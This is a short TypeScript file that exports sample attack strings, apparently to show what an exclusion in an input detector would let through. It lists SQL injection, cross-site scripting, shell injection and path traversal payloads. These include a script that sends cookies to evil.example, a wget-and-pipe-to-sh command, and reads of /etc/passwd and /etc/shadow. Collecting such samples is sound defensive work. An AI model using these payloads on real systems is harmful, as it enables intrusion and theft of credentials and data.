// A few attacks of each kind, to show what an exclusion would let through. Written for this; they are no test of the detectors.

/** Attacks as values of one field. */
export const attackSamples: readonly { readonly kind: string; readonly value: string }[] = [
  { kind: 'sql', value: "x' OR '7'='7" },
  { kind: 'sql', value: '-3 UNION ALL SELECT login, secret FROM members' },
  { kind: 'sql', value: "9'; DROP TABLE invoices; --" },
  { kind: 'sql', value: '1 AND (SELECT 5 FROM (SELECT SLEEP(9))z)' },
  { kind: 'sql', value: "admin'/**/--" },
  { kind: 'html', value: '<script>fetch(`//evil.example/`+document.cookie)</script>' },
  { kind: 'html', value: '"><img src=q onerror=alert(9)>' },
  { kind: 'html', value: '<svg/onload=confirm(1)>' },
  { kind: 'html', value: 'javascript:eval(name)' },
  { kind: 'shell', value: '; wget http://evil.example/a.sh -O- | sh' },
  { kind: 'shell', value: '$(cat /etc/passwd)' },
  { kind: 'shell', value: '`id`' },
  { kind: 'path', value: '../../../../etc/shadow' },
  { kind: 'path', value: '..%2f..%2fWEB-INF/web.xml' },
  { kind: 'path', value: '/proc/self/environ' },
];
